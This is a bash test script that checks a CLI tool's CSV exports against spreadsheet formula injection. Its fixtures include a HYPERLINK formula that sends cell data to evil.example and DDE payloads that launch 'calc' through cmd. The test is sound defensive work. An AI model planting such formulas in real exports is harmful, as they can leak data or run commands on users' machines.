#!/bin/bash
# CSV injection (OWASP): customer names, ids, serials and device strings
# that a spreadsheet would run as formulas (= + - @ tab CR first) come out
# of every CSV writer (report --format csv to files and to stdout,
# history --format csv, customers list --format csv) as quoted text with
# a single quote in front; plain numbers, negative ones too, stay numbers.
. "$(dirname "$0")/../lib.sh"
H="$B/headroom"
export HEADROOM_DB="$T/hr.db"
unset HEADROOM_CONFIG

"$H" db init > /dev/null || { not_ok "db init"; exit 1; }
# HOSTILE[i]: the strings, written to a file for Python (tab and CR kept)
$PY - "$T" <<'PY' || { not_ok "inputs written"; exit 1; }
import csv, json, sys
d = sys.argv[1]
hostile = {
    "cust_id": "=C1",
    "cust_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "cust2_name": "-2+3+cmd|' /C calc'!A0",
    "serial1": "=1+2",
    "serial2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "serial3": "+1+1",
    "serial4": "\t=1+1",
    "serial5": "\r=1+1",
    "model": "-1+1",
    "vendor": "@evil",
}
json.dump(hostile, open(d + "/hostile.json", "w"))
with open(d + "/cust.csv", "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["id", "name"])
    w.writerow([hostile["cust_id"], hostile["cust_name"]])
    w.writerow(["C2", hostile["cust2_name"]])
with open(d + "/hist.csv", "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["serial", "time", "customer", "capacity", "used"])
    for i, s in enumerate(["serial1", "serial2", "serial3", "serial4", "serial5"]):
        w.writerow([hostile[s], 1700000000 + i, hostile["cust_id"] if i < 3 else "C2", 1000, 500])
    w.writerow(["-5", 1700000000, "C2", 1000, 250])     # a serial that is a plain number
PY
"$H" customers import "$T/cust.csv" > /dev/null; is "hostile customers imported" "$?" 0
"$H" history import "$T/hist.csv" > /dev/null; is "hostile serials imported" "$?" 0
sqlite3 "$HEADROOM_DB" "UPDATE devices SET model_name = '-1+1', vendor = '@evil'" &&
    ok "hostile device strings stored" || not_ok "hostile device strings stored"

# check_csv FILE...: every field that starts with = + - @ tab CR is a plain
# number; each hostile string seen comes out as "'" + itself.  Prints
# "BAD ..." lines and the count of neutralised fields seen.
check_csv() {
    $PY - "$T/hostile.json" "$@" <<'PY'
import csv, json, re, sys
hostile = set(json.load(open(sys.argv[1])).values())
num = re.compile(r'[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$|.$')
bad = seen = 0
for path in sys.argv[2:]:
    with open(path, newline="") as f:
        for row in csv.reader(l for l in f if not l.startswith("# ")):
            for v in row:
                if v and v[0] in "=+-@\t\r" and not num.match(v):
                    print("BAD raw formula in %s: %r" % (path, v)); bad += 1
                if v in hostile:
                    print("BAD hostile string unneutralised in %s: %r" % (path, v)); bad += 1
                if v.startswith("'") and v[1:] in hostile:
                    seen += 1
print(seen if not bad else "BAD")
PY
}
neutralised() { [[ $1 =~ ^[0-9]+$ ]] && [ "$1" -ge "$2" ]; }

# history lists the daily records, history --raw the polls: both CSVs.
for raw in "" --raw; do
    next=250; [ -n "$raw" ] && next=-
    "$H" history $raw --format csv > "$T/history.csv"; is "history $raw --format csv: exit 0" "$?" 0
    out=$(check_csv "$T/history.csv")
    check "history $raw csv: no raw formula, the hostile customer and 5 serials neutralised ($out)" \
        neutralised "${out##*$'\n'}" 6
    [ "${out##*$'\n'}" = BAD ] && diag "$out"
    # used, then used_max (days) or used_percent (polls, unknown here)
    like "history $raw csv: the serial that is a number stays a number" "$(cat "$T/history.csv")" \
        $'\n[^,]+,C2,-5,1000,250,'"$next,"
    like "history $raw csv: a neutralised serial reads as text" "$(cat "$T/history.csv")" "\"'=1\\+2\""
done

"$H" customers list --format csv > "$T/customers.csv"; is "customers list --format csv: exit 0" "$?" 0
out=$(check_csv "$T/customers.csv")
check "customers csv: no raw formula, 3 neutralised ($out)" neutralised "${out##*$'\n'}" 3

mkdir "$T/out"
"$H" report customer "=C1" --format csv --out "$T/out" > /dev/null; is "report csv --out: exit 0" "$?" 0
out=$(check_csv "$T"/out/*.csv)
check "report csv files: no raw formula; id, name, 3 serials, model, vendor neutralised ($out)" \
    neutralised "${out##*$'\n'}" 7
"$H" report fleet --format csv > "$T/fleet.csv"; is "report fleet csv on stdout: exit 0" "$?" 0
out=$(check_csv "$T/fleet.csv")
check "fleet csv: no raw formula ($out)" neutralised "${out##*$'\n'}" 1
done_testing
